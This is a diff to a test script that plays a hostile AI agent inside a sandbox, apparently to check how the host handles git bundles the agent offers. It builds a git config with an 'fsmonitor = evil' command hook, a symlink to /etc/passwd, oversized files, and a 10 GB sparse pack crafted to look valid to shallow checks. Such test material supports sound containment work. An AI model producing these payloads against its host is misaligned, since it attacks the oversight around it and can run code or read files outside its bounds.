@@ -1,6 +1,16 @@
 // What an agent might write and run in its sandbox: `node hostile-agent.mjs <deed>`.
 import { execFileSync } from "node:child_process";
-import { lstatSync, mkdirSync, readdirSync, readFileSync, truncateSync, writeFileSync } from "node:fs";
+import {
+  closeSync,
+  lstatSync,
+  mkdirSync,
+  openSync,
+  readdirSync,
+  readFileSync,
+  truncateSync,
+  writeFileSync,
+  writeSync,
+} from "node:fs";
 import { request } from "node:http";
 
 const socketPath = "/run/slipway/run.sock";
@@ -14,7 +24,7 @@ const deeds = {
       withFile("40000", ".git", tree([["100644", "config", blob("[core]\n\tfsmonitor = evil\n")]])),
       withFile("120000", "way-out", blob("/etc/passwd")),
       withFile("100644", "zeros", blob(Buffer.alloc(64 * 1024 ** 2 + 1))),
-      endless,
+      large,
     ];
     mkdirSync("/var/tmp/slipway-offers", { recursive: true });
     const offers = bundles.map((write, index) => {
@@ -132,10 +142,23 @@ function header(commit) {
   return Buffer.from(`# v2 git bundle\n-${head()} \n${commit} ${branch}\n\n`);
 }
 
-/** Of 10 GB. */
-function endless(path) {
-  writeFileSync(path, Buffer.concat([header(head()), Buffer.from("PACK\0\0\0\x02\0\0\0\x01")]));
-  truncateSync(path, 10 * 1024 ** 3);
+/** Of 10 GB, most of them holes: a pack of one blob that is not compressed, and is right as far as anybody reads it. */
+function large(path) {
+  const size = 10 * 1024 ** 3;
+  const sizes = [];
+  for (let rest = Math.floor(size / 16); rest > 0; rest = Math.floor(rest / 128)) {
+    sizes.push((rest % 128) + (rest >= 128 ? 128 : 0));
+  }
+  const blob = Buffer.from([0b1011_0000 + (size % 16), ...sizes, 0x78, 0x01]);
+  const start = Buffer.concat([header(head()), Buffer.from("PACK\0\0\0\x02\0\0\0\x01"), blob]);
+  writeFileSync(path, start);
+  truncateSync(path, size);
+  const file = openSync(path, "r+");
+  const beginOfBlock = Buffer.from([0, 0xff, 0xff, 0, 0]);
+  for (let at = start.length; at < 300 * 1024 ** 2; at += beginOfBlock.length + 0xffff) {
+    writeSync(file, beginOfBlock, 0, beginOfBlock.length, at);
+  }
+  closeSync(file);
   return head();
 }
 
